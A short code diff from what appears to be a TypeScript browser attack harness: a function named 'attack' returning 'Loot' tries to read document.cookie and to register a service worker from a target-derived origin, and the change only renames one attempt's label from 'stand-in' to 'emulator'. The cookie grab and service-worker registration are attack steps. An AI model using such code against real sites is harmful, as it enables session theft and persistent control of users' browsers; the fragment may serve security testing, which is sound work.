@@ -151,7 +151,7 @@ async function attack(targets: Targets): Promise<Loot> {
         ];
   const others = [
     attempt("cookies", () => document.cookie),
-    attempt("a service worker of the stand-in", async () => {
+    attempt("a service worker of the emulator", async () => {
       const url = `${new URL(targets.reads["daytona: calls"] ?? "/", location.href).origin}/sw.js`;
       await navigator.serviceWorker.register(url);
       return "registered";
